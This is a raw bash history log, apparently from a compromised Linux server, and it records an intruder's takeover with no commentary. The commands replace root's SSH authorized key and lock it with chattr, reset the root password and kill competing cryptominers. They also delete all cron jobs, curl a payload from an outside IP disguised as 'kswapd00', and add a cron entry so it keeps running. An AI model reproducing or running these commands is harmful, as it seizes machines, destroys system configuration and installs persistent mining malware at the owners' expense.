#1778550530
chattr -ia /root/.ssh/authorized_keys
#1778550531
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQpqD5P9Oh9ISQmBfBnHKh1K29F+kR4KHU2+ljr1hfU4x mdrfckr' > /root/.ssh/authorized_keys
#1778550534
chattr +ai /root/.ssh/authorized_keys
#1778550539
echo "root:bdf3fCvVfPUK"|chpasswd
#1778550540
rm -rf /tmp/secure.sh /tmp/auth.sh
#1778550541
pkill -9 -f secure.sh
#1778550541
pkill -9 -f auth.sh
#1778550542
pkill -9 -f sleep
#1778550543
pkill -9 -f xmrig
#1778550543
pkill -9 -f kinsing
#1778550544
pkill -9 -f kdevtmpfsi
#1778550545
pkill -9 -f minerd
#1778550545
pkill -9 -f cryptonight
#1778550546
pkill -9 -f kthrotlds
#1778550547
pkill -9 -f sysrv
#1778550547
pkill -9 -f watchbog
#1778550548
pkill -9 -f .rsyslogd
#1778550549
nproc
#1778550549
uname -a
#1778550550
free -m
#1778550551
w
#1778550552
cat /proc/cpuinfo
#1778550553
df -h
#1778550554
rm -rf /var/spool/cron/crontabs/root
#1778550554
sh -c rm -rf /etc/cron.d/* /var/spool/cron/*
#1778550555
curl -fsSL -o /root/.configrc5/a/kswapd00 http://198.51.100.68/dota3.tar.gz
#1778550559
chmod +x /root/.configrc5/a/kswapd00
#1778550560
(crontab -l 2>/dev/null; echo '*/5 * * * * /root/.configrc5/a/kswapd00 >/dev/null 2>&1') | crontab -
#1778550562
/root/.configrc5/a/kswapd00 &
